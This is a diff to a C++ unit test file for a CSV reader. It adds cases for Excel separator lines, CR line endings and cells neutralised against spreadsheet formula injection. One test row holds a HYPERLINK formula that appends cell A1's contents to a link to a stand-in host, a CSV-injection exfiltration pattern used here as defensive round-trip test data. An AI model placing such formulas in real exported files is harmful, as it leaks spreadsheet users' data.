@@ -62,6 +62,22 @@ TEST(ReadCsv, ReadsWhatSpreadsheetsWriteWithTheLineEachRecordStartsOn) {
        "\xEF\xBB\xBFserial\n1\n",
        {{1, {"serial"}}, {2, {"1"}}},
        nullptr},
+      {"Excel's sep= line names the separator",
+       "sep=;\r\na,b;c\r\n1;2\r\n",
+       {{2, {"a,b", "c"}}, {3, {"1", "2"}}},
+       nullptr},
+      {"CR alone ends lines",
+       "a;b\r1;\"x\ry\"\r2;3",
+       {{1, {"a", "b"}}, {2, {"1", "x\ry"}}, {4, {"2", "3"}}},
+       nullptr},
+      {"a quoted comma in the header is no separator",
+       "serial;\"Ort, Halle\"\n1;x,y\n",
+       {{1, {"serial", "Ort, Halle"}}, {2, {"1", "x,y"}}},
+       nullptr},
+      {"cells neutralised for spreadsheets",
+       "'=1+1,'-2,-3,'x,''@y\n",
+       {{1, {"=1+1", "-2", "-3", "'x", "'@y"}}},
+       nullptr},
       {"open quote", "a\n\"b,c\nd\n", {{1, {"a"}}}, "line 2: a quoted field is not closed"},
       {"text after closing quote", "\"a\"b\n", {}, "line 1: text after a closing quote"},
       {"stray quote", "a\nb\"c\n", {{1, {"a"}}}, "line 2: a quote inside an unquoted field"},
@@ -79,12 +95,15 @@ TEST(ReadCsv, ReadsWhatSpreadsheetsWriteWithTheLineEachRecordStartsOn) {
 
 // What the tool writes as CSV, it reads back field for field.
 TEST(ReadCsv, ReadsBackTheToolsOwnCsv) {
-  const std::vector<Fields> rows = {{"serialText", "name"},
-                                    {"00C0DE",
-                                     "Pr\xC3\xBC"
-                                     "fstand, \"A\""},
-                                    {"001A2B", " two\r\nlines "}};
-  const CsvText csv = ReadCsv(FormatCsvRows(rows, rows.front(), /*byteOrderMark=*/true));
+  const std::vector<Fields> rows = {
+      {"serialText", "name"},
+      {"00C0DE",
+       "Pr\xC3\xBC"
+       "fstand, \"A\""},
+      {"001A2B", " two\r\nlines "},
+      {"=HYPERLINK(\"http://x.example/?\"&A1;\"klick\")", "@SUM(1+1)"},
+      {"-1", "'+x"}};
+  const CsvText csv = ReadCsv(FormatCsvRows(rows, rows.front(), CsvForm{';', true}));
   EXPECT_EQ(csv.error, "");
   ASSERT_EQ(csv.records.size(), rows.size());
   for (std::size_t i = 0; i < rows.size(); ++i) EXPECT_EQ(csv.records[i].fields, rows[i]);
